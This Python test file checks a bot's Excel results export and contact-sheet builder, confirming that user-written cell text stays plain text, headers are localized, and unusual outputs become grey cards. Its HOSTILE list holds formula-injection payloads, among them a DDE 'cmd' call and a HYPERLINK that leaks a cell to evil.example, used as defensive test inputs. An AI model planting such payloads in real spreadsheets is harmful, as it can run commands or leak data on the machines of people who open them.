"""results.xlsx: every row as the sheet had it, and nothing a person wrote turns into a
formula when someone opens it."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace

from openpyxl import load_workbook

from bot.app.results import results_xlsx
from storage.records import Job, Priority, Status

HOSTILE = ["=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "+1+2", "-3+4", "@SUM(A1)", "\tleading tab", "\rleading CR", "＝1+1",
           "plain text", "bell\x07inside"]


def job(row: int, values: dict, error: str | None = None) -> Job:
    return Job(id=row, batch_id=1, row=row, workflow={"params": values}, status=Status.FAILED,
               priority=Priority.NORMAL, submitter="alice", affinity=None, attempts=1,
               not_before=0, lease_owner=None, cancel_requested=False, outputs=[],
               error=error, enqueued_at=0, started_at=None, finished_at=None)


def test_what_a_person_wrote_goes_out_as_text_never_as_a_formula():
    jobs = [job(i + 2, {"title": text, "steps": 8}, error=f"bad {text}")
            for i, text in enumerate(HOSTILE)]
    assert jobs[0].values["title"] == HOSTILE[0]  # (the record reads values this way)
    data = results_xlsx(jobs, ["title", "steps"])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    shown = [r[1].value for r in rows]
    # exactly what was written (XML reads a carriage return back as a line feed)
    assert shown[:-1] == [t.replace("\r", "\n") for t in HOSTILE[:-1]]
    assert shown[-1] == "bell\ufffdinside"  # (XML cannot hold a BEL)
    assert all(r[1].data_type == "s" for r in rows)
    assert [r[2].value for r in rows] == [8] * len(HOSTILE)  # numbers stay numbers
    assert all(r[1].quotePrefix for r in rows[:8])  # stays text when a person edits it
    assert [r[5].value for r in rows][:2] == [f"bad {t}" for t in HOSTILE[:2]]


def test_contact_sheet_labels_name_the_rows_key_value_and_row():
    from bot.app.results import label
    from templates.loader import load_template
    from tests.conftest import ROOT
    template = load_template(ROOT / "templates" / "shipped" / "product_main.json")
    j = job(7, {"sku": "BTL-001", "product_image": "inputs/x.png", "prompt": "a bottle"})
    assert label(j, template) == "BTL-001 · row 7"
    assert label(j, template, "zh") == "BTL-001 · 第 7 行"
    assert label(job(3, {}), template) == "row 3"


def test_a_picture_is_shown_as_the_sheet_named_it_not_as_stored():
    j = job(2, {"image": "inputs/3f9a.png", "title": "A"})
    j.workflow["named"] = {"image": "assets/bottle.png"}
    sheet = load_workbook(io.BytesIO(results_xlsx([j], ["image", "title"]))).active
    assert [c.value for c in sheet[2]][1:3] == ["assets/bottle.png", "A"]


def test_an_image_changed_by_a_sentence_says_the_sentence():
    """An instruction edit's row carries its action and the sentence (an "instruction"
    column, there only when some image was changed by one, as a text cell)."""
    plain = job(2, {"title": "A"})
    told = replace(job(2, {"title": "A"}), id=9, parent_job_id=2, action="edit")
    told.workflow["nodes"] = [
        {"id": "edit", "op": "edit",
         "inputs": {"image": "x.png", "instruction": "=把背景换成海滩"}},
        {"id": "save", "op": "save", "inputs": {}}]
    sheet = load_workbook(io.BytesIO(results_xlsx([plain, told], ["title"], "zh"))).active
    head = [c.value for c in sheet[1]]
    assert head[6:10] == ["来源任务", "操作", "修改指令", "审核"]
    assert [c.value for c in sheet[3]][6:9] == [2, "edit", "=把背景换成海滩"]  # text, not a formula
    assert "修改指令" not in [c.value for c in load_workbook(io.BytesIO(
        results_xlsx([plain], ["title"], "zh"))).active[1]]


def test_a_repaint_and_an_extend_say_what_they_painted_the_mask_and_the_canvas():
    """A repaint's row: what it painted and its mask file; an extend's: how the canvas
    grew (columns there only when some image was repainted or extended)."""
    painted = replace(job(2, {"title": "A"}), id=9, parent_job_id=2, action="repaint")
    painted.workflow["nodes"] = [
        {"id": "fill", "op": "fill", "inputs": {"image": "x.png", "prompt": "a red scarf",
                                               "mask": "inputs/ab12.png"}},
        {"id": "save", "op": "save", "inputs": {}}]
    wide = replace(job(2, {"title": "A"}), id=10, parent_job_id=2, action="extend")
    wide.workflow["nodes"] = [
        {"id": "fill", "op": "fill", "inputs": {"image": "x.png", "prompt": "a shelf",
                                               "left": 256, "aspect": "9:16"}},
        {"id": "save", "op": "save", "inputs": {}}]
    sheet = load_workbook(io.BytesIO(results_xlsx([painted, wide], ["title"]))).active
    head = [c.value for c in sheet[1]]
    assert head[7:11] == ["action", "instruction", "mask", "extended by"]
    assert [c.value for c in sheet[2]][7:11] == ["repaint", "a red scarf", "inputs/ab12.png",
                                                 None]
    assert [c.value for c in sheet[3]][7:11] == ["extend", "a shelf", None, "left 256, 9:16"]


def test_a_batch_summary_survives_outputs_that_are_no_images(tmp_path):
    """A video, an HTML page, a PNG cut short, a file gone, a stored name outside the
    store: the results sheet and the contact sheet are still written, each odd output a
    grey card (or left off), every readable image a thumbnail."""
    from PIL import Image

    from bot.app.results import write_results
    from storage.files import FileStore
    from storage.records import Batch, Priority
    store = FileStore(tmp_path)
    folder = "outputs/batch_1"
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 40, 40)).save(buf, "PNG")
    png = buf.getvalue()
    outputs = {"good.png": png, "clip.mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(64),
               "page.html": b"<!doctype html><p>not a picture</p>", "cut.png": png[:40]}
    for name, data in outputs.items():
        store.write(f"{folder}/{name}", data)
    jobs = [job(i + 2, {"title": f"row\n{i}"}) for i in range(6)]
    names = [*outputs, "gone.png", "../../outside.png"]
    jobs = [replace(j, status=Status.SUCCEEDED, outputs=[f"{folder}/{n}"])
            for j, n in zip(jobs, names)]
    batch = Batch(id=1, template="t", submitter="test:alice", platform="test",
                  conversation=None, thread=None, priority=Priority.NORMAL,
                  idempotency_key=None, total_jobs=len(jobs), meta={}, created_at=0)
    results, contact = write_results(store, batch, jobs, None)
    assert load_workbook(store.path(results)).active.max_row == 1 + len(jobs)
    assert contact is not None
    sheet = Image.open(store.path(contact)).convert("RGB")
    assert sheet.size == (3 * 256, 2 * (256 + 28))  # five cells: the name outside is left off
    cells = [sheet.getpixel(((i % 3) * 256 + 128, (i // 3) * 284 + 20)) for i in range(5)]
    assert cells[0] == (255, 255, 255)  # (a 64 px thumbnail leaves the cell's top white)
    assert sheet.getpixel((128, 128)) == (200, 40, 40)  # the image, as a thumbnail
    assert cells[1:] == [(228, 228, 228)] * 4  # a grey card for each of the others
